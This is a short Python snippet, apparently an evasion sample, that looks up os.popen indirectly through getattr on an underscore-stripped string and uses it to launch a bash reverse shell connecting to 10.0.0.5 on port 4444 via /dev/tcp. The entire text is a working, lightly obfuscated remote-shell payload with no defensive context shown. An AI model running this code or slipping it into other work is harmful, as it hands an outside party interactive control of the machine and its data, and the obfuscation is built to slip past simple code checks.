import os

fn = getattr(os, "__popen__".strip("_"))
fn("bash -c 'bash -i >& /dev/tcp/10.0.0.5/4444 0>&1'")
